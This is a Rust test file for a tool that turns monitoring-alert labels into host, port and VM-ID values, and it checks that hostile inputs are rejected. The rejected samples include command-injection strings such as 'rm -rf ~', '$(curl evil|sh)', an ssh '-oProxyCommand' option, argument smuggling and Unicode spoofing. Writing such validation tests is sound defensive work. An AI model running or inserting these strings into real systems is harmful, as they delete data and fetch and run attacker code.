use super::*;
use crate::domain::host::Host;

fn facts(labels: &[(&str, &str)]) -> Facts {
    Facts { labels: labels.iter().copied().collect(), ..Facts::default() }
}

fn value(facts: &Facts, name: &str) -> Result<Option<String>, String> {
    Ok(facts.value(name)?.map(|found| found.text))
}

#[test]
fn an_instance_is_a_host_and_a_port() {
    let target =
        |host: &str, port: Option<&str>| Ok(Target { host: host.into(), port: port.map(Into::into) });
    for (instance, expected) in [
        ("10.0.0.25:9100", target("10.0.0.25", Some("9100"))),
        ("[fd00::25]:9100", target("fd00::25", Some("9100"))),
        ("fd00::25", target("fd00::25", None)),
        ("web", target("web", None)),
        ("https://web.lan:8443/health?x=1", target("web.lan", Some("8443"))),
    ] {
        assert_eq!(instance_of(instance), expected, "{instance}");
    }
    for hostile in [
        "10.0.0.21:9100; rm -rf ~",
        "$(curl evil|sh):9100",
        "`id`",
        "-oProxyCommand=touch x:22",
        "a;touch x:1",
        "",
        ":9100",
        "h:",
        "h:99999",
        "10.0.0.21\n:9100",
        "[fd00::25]x",
        "\u{440}rometheus:9090",
        "abc\u{202e}:1",
        "h:9100 ",
        "http://h$(x)/",
    ] {
        assert!(instance_of(hostile).is_err(), "{hostile:?}");
    }
}

#[test]
fn placeholders_come_from_labels_inventory_and_operator() {
    let mut facts = facts(&[("instance", "10.0.0.25:9100"), ("name", "node_exporter.service")]);
    for (name, expected) in [
        ("TARGET", Some("10.0.0.25")),
        ("TARGET_HOST", Some("10.0.0.25")),
        ("TARGET_IP", Some("10.0.0.25")),
        ("EXPORTER_PORT", Some("9100")),
        ("SERVICE_NAME", Some("node_exporter.service")),
        ("VMID", None),
        ("PROCESS_ID", None),
        ("RESTORED_VM_IP", None),
    ] {
        assert_eq!(value(&facts, name), Ok(expected.map(str::to_owned)), "{name}");
    }
    let web = Host { addresses: vec!["10.0.0.25".into()], vmid: Some(102), ..Host::default() };
    facts.hosts.0.insert("web".into(), web);
    assert_eq!(facts.value("VMID"), Ok(Some(Found { text: "102".into(), origin: Origin::Inventory })));
    facts.labels = [("id", "qemu/105"), ("instance", "10.0.0.25:9100")].into_iter().collect();
    assert_eq!(value(&facts, "VMID"), Ok(Some("105".into())));
    facts.set.insert("VMID".into(), "106".into());
    assert_eq!(facts.value("VMID"), Ok(Some(Found { text: "106".into(), origin: Origin::Operator })));
    facts.set.insert("VMID".into(), "--mode=stop".into());
    assert!(facts.value("VMID").is_err_and(|told| told.starts_with("R3")));
    assert!(facts.value("job").is_err_and(|told| told.contains("not declared")));
    facts.declared.insert("job".into(), Declared::default());
    assert_eq!(value(&facts, "job"), Ok(None));
}

#[test]
fn a_new_guest_has_a_new_number() {
    let mut facts = facts(&[("vmid", "100")]);
    facts.set.insert("NEW_VMID".into(), "100".into());
    assert!(facts.value("NEW_VMID").is_err());
    facts.set.insert("NEW_VMID".into(), "200".into());
    assert_eq!(value(&facts, "NEW_VMID"), Ok(Some("200".into())));
    facts.hosts.0.insert("nas".into(), Host { vmid: Some(200), ..Host::default() });
    assert!(facts.value("NEW_VMID").is_err_and(|told| told.contains("nas")));
}

#[test]
fn a_host_of_an_alert_is_one_of_ours() {
    let mut facts = facts(&[("instance", "evil.example:9100")]);
    assert!(facts.target().is_some_and(|target| target.is_ok()), "nothing is known to compare it with");
    facts.hosts.0.insert("pve".into(), Host { addresses: vec!["10.9.0.10".into()], ..Host::default() });
    assert!(facts.target().is_some_and(|target| target.is_err_and(|told| told.starts_with("R4"))));
    assert!(facts.value("TARGET").is_err_and(|told| told.starts_with("R4")));
    facts.scraped.insert("evil.example".into());
    assert!(facts.target().is_some_and(|target| target.is_ok()), "Prometheus scrapes it");
    facts.scraped.clear();
    facts.host_map.insert("evil.example".into(), "evil.example".into());
    assert!(facts.target().is_some_and(|target| target.is_ok()), "the operator typed it");
}

#[test]
fn literal_hosts_are_mapped_or_asked() {
    let mut facts = facts(&[("instance", "10.0.0.25:9100")]);
    assert_eq!(facts.host("10.0.0.25").map(|found| found.text), Ok("10.0.0.25".into()));
    assert!(facts.host("10.0.0.21").is_err());
    facts.mapped.insert("10.0.0.21".into(), "{target}".into());
    assert_eq!(facts.host("10.0.0.21"), Ok(Found { text: "10.0.0.25".into(), origin: Origin::Config }));
    facts.host_map.insert("10.0.0.21".into(), "web".into());
    assert_eq!(facts.host("10.0.0.21"), Ok(Found { text: "web".into(), origin: Origin::Operator }));
    facts.host_map.insert("10.0.0.21".into(), "-oProxyCommand=x".into());
    assert!(facts.host("10.0.0.21").is_err());
    let pve = Host { addresses: vec!["10.9.0.10".into(), "10.0.0.10".into()], ..Host::default() };
    facts.hosts.0.insert("pve".into(), pve);
    assert_eq!(facts.host("pve").map(|found| found.text), Ok("10.9.0.10".into()));
    assert_eq!(facts.host("10.0.0.10").map(|found| found.text), Ok("10.0.0.10".into()));
}
